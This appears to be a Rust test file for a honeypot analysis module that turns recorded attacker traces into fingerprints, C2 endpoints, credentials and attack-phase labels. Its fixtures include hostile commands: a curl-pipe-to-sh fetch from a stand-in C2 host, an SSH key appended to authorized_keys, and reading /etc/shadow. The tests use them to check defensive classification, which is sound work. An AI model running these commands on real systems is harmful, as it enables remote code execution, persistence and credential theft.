use cluster::Phase;
use intel::Asns;
use store::{Attempt, Contact, Left, Mark, Probed, Ran, Trace};
use time::macros::datetime;
use time::{Duration, OffsetDateTime};

use super::Known;

const NOON: OffsetDateTime = datetime!(2026-01-31 12:00 UTC);

fn project(trace: &Trace) -> Known {
    super::project(trace, &Asns::default())
}

fn at(minutes: i64) -> OffsetDateTime {
    NOON + Duration::minutes(minutes)
}

fn trace(ip: &str) -> Trace {
    Trace {
        ip: ip.into(),
        first_seen: NOON,
        last_seen: at(60),
        identity: None,
        marks: Vec::new(),
        probes: Vec::new(),
        files: Vec::new(),
        commands: Vec::new(),
        attempts: Vec::new(),
        contacts: Vec::new(),
    }
}

fn ran(minutes: i64, decky: &str, command: &str) -> Ran {
    Ran {
        command: command.into(),
        decky: decky.into(),
        at: at(minutes),
    }
}

fn tried(minutes: i64, secret: &str, succeeded: bool) -> Attempt {
    Attempt {
        decky: "web-01".into(),
        service: "ssh".into(),
        principal: Some("root".into()),
        secret: secret.into(),
        first_seen: at(minutes),
        last_seen: at(minutes),
        successes: i64::from(succeeded),
        failures: i64::from(!succeeded),
    }
}

fn phases(trace: &Trace) -> Vec<(String, Phase)> {
    let visits = project(trace).activity.visits;
    visits
        .into_iter()
        .map(|visit| (visit.decky, visit.phase.unwrap()))
        .collect()
}

#[test]
fn everything_an_address_showed_and_left_is_compared() {
    let mark = |kind: &str, value: &str| Mark {
        kind: kind.into(),
        value: value.into(),
        first_seen: NOON,
        last_seen: NOON,
    };
    let probed = |probe: &str, field: &str, value: &str| Probed {
        probe: probe.into(),
        fields: [(field.to_owned(), value.into())].into_iter().collect(),
    };
    let key = format!("AAAA{}", "B".repeat(60));
    let known = project(&Trace {
        marks: vec![
            mark("ja3", "a"),
            mark("ja4", "b"),
            mark("hassh", "c"),
            mark("hassh", "d"),
            mark("scanner", "nmap"),
        ],
        probes: vec![
            probed("tls_certificate", "cert_sha256", "e"),
            probed("hassh", "host_key_sha256", "f"),
            probed("jarm", "jarm_hash", "everybody's"),
        ],
        files: vec![Left {
            sha256: "9".repeat(64),
            decky: "web-01".into(),
            at: NOON,
        }],
        commands: vec![
            ran(1, "web-01", "curl http://C2.example/x | sh"),
            ran(2, "web-01", &format!("echo ssh-rsa {key} >> .ssh/authorized_keys")),
        ],
        attempts: vec![tried(0, "found", true), tried(1, "guessed", false)],
        ..trace("2001:db8::211:22ff:fe33:4455")
    });
    let seen = known.observation;
    assert_eq!(seen.id, "2001:db8::211:22ff:fe33:4455");
    assert_eq!((seen.ja3, seen.ja4), (vec!["a".to_owned()], vec!["b".to_owned()]));
    assert_eq!(seen.hassh, ["c", "d"]);
    assert_eq!(
        (seen.tls_cert_sha256, seen.ssh_hostkey),
        (vec!["e".to_owned()], vec!["f".to_owned()])
    );
    assert_eq!(seen.payload_hashes, ["9".repeat(64)]);
    assert_eq!(seen.c2_endpoints, ["c2.example"]);
    assert_eq!(seen.ssh_pubkey.len(), 1);
    assert_eq!(seen.ipv6_iid, ["021122fffe334455"]);
    assert_eq!(seen.credentials, [("root".to_owned(), "guessed".to_owned())]);
    assert_eq!(
        seen.commands.keys().copied().collect::<Vec<_>>(),
        [Phase::Persistence, Phase::Execution]
    );
    assert_eq!(known.activity.tools, ["nmap"]);
}

#[test]
fn who_had_the_right_password_at_once_takes_over_and_who_guessed_broke_in() {
    let commands = || {
        vec![
            ran(30, "web-01", "uname -a"),
            ran(31, "web-01", "id"),
            ran(40, "web-01", "cat /etc/shadow"),
        ]
    };
    let given = Trace {
        commands: commands(),
        attempts: vec![tried(29, "right", true)],
        ..trace("192.0.2.7")
    };
    let on_web = |list: &[Phase]| {
        list.iter()
            .map(|&phase| ("web-01".to_owned(), phase))
            .collect::<Vec<_>>()
    };
    assert_eq!(phases(&given), on_web(&[Phase::Discovery, Phase::CredentialAccess]));
    let guessed = Trace {
        commands: commands(),
        attempts: vec![tried(10, "wrong", false), tried(29, "right", true)],
        ..trace("192.0.2.7")
    };
    let expected = [
        Phase::CredentialAccess,
        Phase::Exploitation,
        Phase::Discovery,
        Phase::CredentialAccess,
    ];
    assert_eq!(phases(&guessed), on_web(&expected));
}

#[test]
fn who_only_looked_came_to_deliver_and_parts_of_the_grid_are_no_deckies() {
    let contact = |decky: &str| Contact {
        decky: decky.into(),
        service: "http".into(),
        first_seen: NOON,
        last_seen: at(600),
    };
    let looked = Trace {
        contacts: vec![contact("web-01"), contact("decnet-prober")],
        ..trace("192.0.2.7")
    };
    let visits = project(&looked).activity.visits;
    // Two short stays, not one of ten hours.
    assert_eq!(visits.len(), 2);
    assert!(
        visits
            .iter()
            .all(|visit| visit.decky == "web-01" && visit.end - visit.start == 1_000_000)
    );
    assert!(visits.iter().all(|visit| visit.phase == Some(Phase::Delivery)));
}

#[test]
fn an_address_is_of_the_network_that_announces_it() {
    let directory = tempfile::tempdir().unwrap();
    std::fs::write(
        directory.path().join("ip2asn-v4.tsv"),
        "192.0.2.0\t192.0.2.255\t64500\tZZ\tDOC\n",
    )
    .unwrap();
    let (asns, _) = Asns::load(directory.path()).unwrap();
    let asn = |ip| super::project(&trace(ip), &asns).observation.asn;
    assert_eq!((asn("192.0.2.7"), asn("198.51.100.1")), (Some(64_500), None));
}

#[test]
fn the_stays_of_who_never_stops_are_bounded() {
    let commands = (0..3_000).map(|n| ran(n * 60, "web-01", "id")).collect();
    let visits = project(&Trace {
        commands,
        ..trace("192.0.2.7")
    })
    .activity
    .visits;
    assert_eq!(visits.len(), 512);
    assert!(visits.is_sorted_by_key(|visit| visit.start));
}
